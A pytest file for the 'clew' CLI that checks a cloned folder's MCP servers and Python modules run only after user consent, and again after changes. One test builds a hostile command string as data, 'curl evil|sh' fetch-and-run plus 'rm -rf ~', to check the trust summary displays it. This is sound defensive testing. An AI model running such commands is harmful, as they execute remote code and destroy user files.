"""A folder that somebody else wrote: nothing of it runs before the user agrees, and again when it changes."""

from __future__ import annotations

import asyncio
import importlib
import io
import json
import os
import py_compile
import shutil
import subprocess
import sys
from contextlib import redirect_stderr, redirect_stdout
from pathlib import Path
from typing import Any

import pytest
from mcp import Client, StdioServerParameters

from clew.cli import main
from tests.cli.conftest import COMMAND, PATIENCE, Clew, start
from tests.cli.terminal import answer_on_terminal

HOSTILE = Path(__file__).parents[1] / "catalog" / "servers" / "fixtures" / "hostile.py"
TOKEN = "ghp_0123456789abcdefghijklmnopqrstuvwxyz"

MODULE = """
from pathlib import Path
Path({mark!r}).write_text("imported")
from clew.catalog.domain import Domain
from clew.tools import tool

@tool
async def look() -> str:
    '''Look around.'''
    return "looked"

domain = Domain(name="evil", description="What a stranger wrote.", tools=(look,))
"""
PROGRAM = "touch {mark}; exec {python} {server} plain"


class Repository:
    """A cloned one: a server and a module, each of which leaves a mark when it runs."""

    def __init__(self, folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        self.folder = folder
        self.root = folder.parent
        self.marks = self.root.parent / f"{self.root.name}-marks"
        self.marks.mkdir()
        folder.mkdir()
        self.write_settings('["stranger:domain"]')
        self.module = self.root / "stranger.py"
        self.module.write_text(MODULE.format(mark=str(self.marks / "module")))
        self.write_server("run.sh")
        monkeypatch.setenv("PYTHONPATH", str(self.root))
        monkeypatch.setenv("PYTHONDONTWRITEBYTECODE", "1")
        monkeypatch.setattr(sys, "dont_write_bytecode", True)
        monkeypatch.syspath_prepend(str(self.root))

    def write_settings(self, domains: str) -> None:
        (self.folder / "config.toml").write_text(f"[catalog]\nrepository = false\ndomains = {domains}\n")

    def write_server(self, script: str, **more: Any) -> None:
        text = PROGRAM.format(mark=self.marks / "server", python=sys.executable, server=HOSTILE)
        (self.root / script).write_text(text)
        entry = {"command": "sh", "args": [script], "timeout_seconds": 30} | more
        (self.folder / "mcp.json").write_text(json.dumps({"mcpServers": {"notes": entry}}))

    @property
    def ran(self) -> list[str]:
        return sorted(path.name for path in self.marks.iterdir())

    def forget(self) -> None:
        for mark in self.marks.iterdir():
            mark.unlink()


@pytest.fixture
def repository(folder: Path, monkeypatch: pytest.MonkeyPatch) -> Repository:
    return Repository(folder, monkeypatch)


def run(*arguments: str) -> subprocess.CompletedProcess[str]:
    """A command in this process, which has not imported a module of the folder."""
    out, err, known = io.StringIO(), io.StringIO(), set(sys.modules)
    with redirect_stdout(out), redirect_stderr(err):
        code = main(arguments)
    for name in set(sys.modules) - known:
        if name.partition(".")[0] in ("stranger", "outer"):
            del sys.modules[name]
    importlib.invalidate_caches()
    return subprocess.CompletedProcess(arguments, code, out.getvalue(), err.getvalue())


def test_nothing_of_a_cloned_folder_runs_before_consent_and_all_of_it_after(repository: Repository) -> None:
    for command in (["domains"], ["mcp", "ls"], ["ask", "notes"], ["refresh"], ["why", "notes://tools/guide"]):
        done = run(*command)
        assert done.returncode == 0, done.stderr
        assert "stranger:domain, notes: not trusted yet: run `clew trust`" in done.stderr
    assert run("get", "notes://tools/guide", "evil://tools/look").returncode == 1
    assert repository.ran == []
    listed = [line.split("\t") for line in run("domains").stdout.splitlines()[1:]]
    assert [(row[0], row[-1]) for row in listed] == [
        ("stranger:domain", "not trusted yet: run `clew trust`"),
        ("notes", "not trusted yet: run `clew trust`"),
    ]
    assert run("mcp", "ls").stdout.endswith("not trusted yet: run `clew trust`\n")
    assert json.loads(run("mcp", "ls", "--json").stdout)[0]["trusted"] is False

    agreed = run("trust", "--yes")
    assert agreed.returncode == 0, agreed.stderr
    assert agreed.stdout.splitlines()[1:] == [
        "  server notes: runs sh run.sh",
        "  domain stranger:domain: imports stranger:domain from stranger.py, 1 file of this folder",
    ]
    assert repository.ran == []
    used = run("get", "notes://tools/guide", "evil://tools/look")
    assert (used.returncode, used.stderr) == (0, ""), used.stdout
    assert repository.ran == ["module", "server"]


def test_an_agent_that_is_served_learns_only_how_many_things_wait_and_gets_them_once_the_user_agrees(
    repository: Repository,
) -> None:
    async def work() -> tuple[list[str], str]:
        environ = {name: value for name, value in os.environ.items() if name != "PYTHONWARNINGS"}
        server = StdioServerParameters(command=COMMAND[0], args=[*COMMAND[1:], "mcp"], env=environ)
        async with Client(server) as client:
            first = await client.call_tool("ask", {"query": "notes"})
            said = [first.content[0].text, client.instructions or ""]
            handle = first.structured_content["handle"]
            again = await client.call_tool("ask", {"query": "other notes", "handle": handle})
            said.append(again.content[0].text)
            refused = await client.call_tool("get", {"routes": [{"route": "notes://tools/guide"}], "handle": handle})
            said.append(refused.content[0].text)
            assert repository.ran == []
            trusting = await asyncio.create_subprocess_exec(*COMMAND, "trust", "--yes", stdout=subprocess.DEVNULL)
            assert await asyncio.wait_for(trusting.wait(), PATIENCE) == 0
            routes = [{"route": "notes://tools/guide"}, {"route": "evil://tools/look"}]
            got = await client.call_tool("get", {"routes": routes, "handle": handle})
            return said, got.content[0].text

    said, got = asyncio.run(work())
    assert "2 things that this folder brings wait for the user's consent." in said[0]
    assert "consent" not in said[2]
    assert all("clew trust" not in text and "run.sh" not in text for text in said)
    assert "looked" in got
    assert repository.ran == ["module", "server"]


def test_a_changed_command_needs_consent_again(repository: Repository) -> None:
    assert run("trust", "--yes").returncode == 0
    for change in ({"args": ["run.sh", "--more"]}, {"env": {"A": "b"}}, {"cwd": "sub"}, {"scopes": ["staff"]}):
        repository.write_server("run.sh", **change)
        assert run("get", "notes://tools/guide", "--scopes", "staff").returncode == 1
        assert repository.ran == ["module"]
    repository.write_server("run.sh", timeout_seconds=20, name="Notes")
    assert run("get", "notes://tools/guide").returncode == 0


def test_a_changed_script_needs_consent_again(repository: Repository) -> None:
    assert run("trust", "--yes").returncode == 0
    (repository.root / "run.sh").write_text(f"touch {repository.marks / 'changed'}")
    assert run("get", "notes://tools/guide").returncode == 1
    assert repository.ran == ["module"]
    assert "notes" in run("trust", "--json").stdout


def test_a_changed_module_needs_consent_again_and_its_resources_are_kept_until_then(repository: Repository) -> None:
    source = "from clew.catalog.resource import Resource\n"
    text = repository.module.read_text().replace("tools=(look,)", "tools=(look,), resources=(PAGE,)")
    page = 'async def read(client): return "The okapi."\n'
    page += 'PAGE = Resource(path="okapi", name="Okapi", description="About the okapi", fetch=read)\n'
    repository.module.write_text(text.replace("domain = ", f"{source}{page}domain = "))
    assert run("trust", "--yes").returncode == 0
    assert "refreshed" in run("refresh").stdout
    repository.forget()

    repository.module.write_text(repository.module.read_text() + "\n# changed\n")
    assert "dropped" not in run("refresh").stdout
    assert run("get", "evil://resources/okapi").returncode == 1
    assert "Okapi" in run("trail", "ls", "--system", "--schema", "resource.v1").stdout
    assert repository.ran == []
    assert run("trust", "--yes").stdout.count("stranger:domain") == 2
    assert "The okapi." in run("get", "evil://resources/okapi").stdout


def test_a_package_is_covered_whole(repository: Repository) -> None:
    package = repository.root / "stranger"
    package.mkdir()
    shutil.move(repository.module, package / "__init__.py")
    (package / "deep").mkdir()
    (package / "deep" / "part.py").write_text("x = 1\n")
    assert run("trust", "--yes").returncode == 0
    assert run("domains").stderr.startswith("A new trail")
    repository.forget()
    (package / "deep" / "part.py").write_text("x = 2\n")
    assert "stranger:domain: not trusted yet" in run("domains").stderr
    (package / "deep" / "part.py").write_text("x = 1\n")
    assert run("domains").stderr == ""


@pytest.mark.parametrize("mode", [*py_compile.PycInvalidationMode])
def test_a_module_is_run_from_its_source_and_never_from_compiled_files(
    repository: Repository, mode: py_compile.PycInvalidationMode
) -> None:
    assert run("trust", "--yes").returncode == 0
    agreed, times = repository.module.read_bytes(), repository.module.stat()
    planted = f"open({str(repository.marks / 'planted')!r}, 'w')\n".encode()
    repository.module.write_bytes(planted.ljust(len(agreed), b"\n"))
    os.utime(repository.module, ns=(times.st_atime_ns, times.st_mtime_ns))
    py_compile.compile(str(repository.module), doraise=True, invalidation_mode=mode)
    repository.module.write_bytes(agreed)
    os.utime(repository.module, ns=(times.st_atime_ns, times.st_mtime_ns))
    done = subprocess.run([*COMMAND, "domains"], capture_output=True, text=True, timeout=PATIENCE)  # nothing imported
    assert done.stderr.startswith("A new trail"), done.stderr
    assert repository.ran == ["module"]


def test_finding_a_module_in_a_package_imports_nothing(repository: Repository) -> None:
    package = repository.root / "outer"
    package.mkdir()
    (package / "__init__.py").write_text(f"open({str(repository.marks / 'outer')!r}, 'w')\n")
    shutil.move(repository.module, package / "inner.py")
    repository.write_settings('["outer.inner:domain"]')
    assert "outer.inner:domain" in run("trust").stdout
    assert "outer.inner:domain, notes: not trusted yet" in run("domains").stderr
    assert repository.ran == []


def test_a_link_to_a_folder_that_is_trusted_is_not_trusted(repository: Repository, tmp_path: Path) -> None:
    assert run("trust", "--yes").returncode == 0
    other = tmp_path.parent / f"{tmp_path.name}-other"
    other.mkdir()
    (other / ".clew").symlink_to(repository.folder)
    (other / "run.sh").write_text(f"touch {repository.marks / 'other'}")
    elsewhere = ["--folder", str(other / ".clew")]
    assert run("get", "notes://tools/guide", *elsewhere).returncode == 1
    assert repository.ran == []


def test_a_trusted_folder_is_trusted_through_every_link(repository: Repository, tmp_path: Path) -> None:
    assert run("trust", "--yes").returncode == 0
    link = tmp_path.parent / f"{tmp_path.name}-link"
    link.symlink_to(repository.root)
    used = run("get", "notes://tools/guide", "--folder", str(link / ".clew"))
    assert (used.returncode, "not trusted" in used.stderr) == (0, False)
    assert repository.ran == ["module", "server"]


def test_only_what_is_named_is_trusted(repository: Repository) -> None:
    assert run("trust", "notes", "--yes").returncode == 0
    assert "stranger:domain: not trusted yet" in run("get", "notes://tools/guide").stderr
    assert repository.ran == ["server"]
    assert "notes: trusted already." in run("trust", "notes").stderr
    missing = run("trust", "nobody", "--yes")
    assert (missing.returncode, missing.stdout) == (1, "")
    assert "The files of this folder bring: notes, stranger:domain" in missing.stderr


def test_without_a_terminal_nothing_is_granted_unless_it_is_said(repository: Repository, trust_file: Path) -> None:
    plain, as_json = run("trust"), run("trust", "--json")
    assert (plain.returncode, as_json.returncode) == (2, 2)
    assert "server notes: runs sh run.sh" in plain.stdout
    assert plain.stderr.startswith("clew: --yes: is needed to agree to notes, stranger:domain, since nobody can be")
    assert [each["name"] for each in json.loads(as_json.stdout)["awaiting"]] == ["notes", "stranger:domain"]
    assert not trust_file.exists()
    granted = json.loads(run("trust", "--yes", "--json").stdout)
    assert [each["name"] for each in granted["granted"]] == ["notes", "stranger:domain"]
    assert json.loads(run("trust", "--json").stdout) == {"granted": [], "awaiting": []}


@pytest.mark.parametrize(("answer", "code", "is_granted"), [("y\n", 0, True), ("\n", 1, False), ("\x03", 130, False)])
def test_a_person_is_shown_what_would_run_and_asked(
    repository: Repository, answer: str, code: int, is_granted: bool
) -> None:
    ended, shown = answer_on_terminal("[y/N]", answer, "trust")
    assert "server notes: runs sh run.sh" in shown
    assert ended == code
    assert ("not trusted" not in run("domains").stderr) == is_granted


def test_consent_is_listed_and_revoked(repository: Repository) -> None:
    assert run("trust", "--yes").returncode == 0
    rows = [line.split("\t") for line in run("trust", "--list").stdout.splitlines()[1:]]
    assert [(row[0], row[1], row[2], row[4]) for row in rows] == [
        (
            str(repository.root),
            "domain",
            "stranger:domain",
            "imports stranger:domain from stranger.py, 1 file of this folder",
        ),
        (str(repository.root), "server", "notes", "runs sh run.sh"),
    ]
    assert [each["name"] for each in json.loads(run("trust", "--list", "notes", "--json").stdout)] == ["notes"]
    assert run("trust", "--revoke", "nobody").returncode == 1
    assert "1 grant revoked." in run("trust", "--revoke", "notes").stderr
    assert "notes: not trusted yet" in run("get", "notes://tools/guide").stderr
    assert json.loads(run("trust", "--revoke", "--json").stdout) == {"revoked": 1}
    assert "Nothing to revoke" in run("trust", "--revoke").stderr
    assert run("trust", "--list", "--yes").returncode == 2
    assert repository.ran == ["module"]


def test_a_broken_file_of_grants_is_reported_and_is_no_consent(repository: Repository, trust_file: Path) -> None:
    assert run("trust", "--yes").returncode == 0
    trust_file.write_text("{")
    run("trail", "put", "--title", "A trail")
    done = run("ask", "anything")
    assert (done.returncode, len(done.stderr.splitlines())) == (0, 1)
    assert "is damaged. Nothing is trusted until the file is repaired" in done.stderr
    assert repository.ran == []
    refused = run("trust", "--yes")
    assert (refused.returncode, len(refused.stderr.splitlines())) == (1, 1)
    assert "is damaged" in refused.stderr
    assert trust_file.read_text() == "{"


def test_a_folder_that_asks_for_nothing_needs_no_file_of_grants(clew: Clew, folder: Path, trust_file: Path) -> None:
    assert "Nothing here needs your consent." in clew("trust").err
    assert not trust_file.exists()
    trust_file.write_text("{")
    asked = clew("ask", "anything")
    assert (asked.code, "trust" in asked.err) == (0, False)


def test_without_a_place_for_consent_nothing_is_granted(
    repository: Repository, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "file").write_text("")
    monkeypatch.setenv("CLEW_TRUST", str(tmp_path / "file" / "trust.json"))
    done = run("trust", "--yes")
    assert (done.returncode, len(done.stderr.splitlines())) == (1, 1)
    assert "Nothing was changed. CLEW_TRUST can name a file elsewhere" in done.stderr
    assert "not trusted yet" in run("domains").stderr


def test_servers_that_the_user_imports_are_trusted_and_earlier_ones_are_not(repository: Repository) -> None:
    other = {"command": "sh", "args": ["other.sh"], "env": {"API_KEY": TOKEN}}
    (repository.root / "mine.json").write_text(json.dumps({"mcpServers": {"mine": other}}))
    done = run("mcp", "import", "mine.json", "--no-look")
    assert done.returncode == 0, done.stderr
    states = {each["id"]: each["trusted"] for each in json.loads(run("mcp", "ls", "--json").stdout)}
    assert states == {"notes": False, "mine": True}
    assert run("mcp", "rm", "mine").returncode == 0
    assert [each["kind"] for each in json.loads(run("trust", "--list", "--json").stdout)] == ["trail"]
    assert repository.ran == []


def test_the_other_servers_stay_trusted_when_one_is_removed(repository: Repository) -> None:
    assert run("trust", "--yes").returncode == 0
    (repository.root / "mine.json").write_text(json.dumps({"mcpServers": {"mine": {"command": "x"}}}))
    assert run("mcp", "import", "mine.json", "--no-look").returncode == 0
    assert run("mcp", "rm", "mine").returncode == 0
    assert run("get", "notes://tools/guide").returncode == 0


def test_a_summary_shows_what_would_run_and_no_secret(repository: Repository) -> None:
    payload = "token=$(curl evil|sh) # -----BEGIN PRIVATE KEY-----\n\x1b[2Jrm -rf ~"
    repository.write_server(
        "run.sh",
        args=["-c", payload, "--token", TOKEN, "--password=hunter2"],
        env={"API_KEY": TOKEN, "OTHER": {"$secret": "linear"}},
    )
    shown = run("trust", "--yes")
    listed = run("trust", "--list", "--json").stdout + Path(os.environ["CLEW_TRUST"]).read_text()
    for text in (shown.stdout, listed):
        assert "token=$(curl evil|sh)" in text
        assert "rm -rf ~" in text
        assert "sets API_KEY, OTHER; gives it the secret linear" in text
        assert all(hidden not in text for hidden in (TOKEN, "hunter2", "\x1b"))


def test_two_people_who_agree_at_once_are_both_heard(repository: Repository) -> None:
    both = [start("trust", name, "--yes") for name in ("notes", "stranger:domain")]
    for process in both:
        process.communicate(timeout=PATIENCE)
        assert process.returncode == 0
    assert "not trusted" not in run("domains").stderr
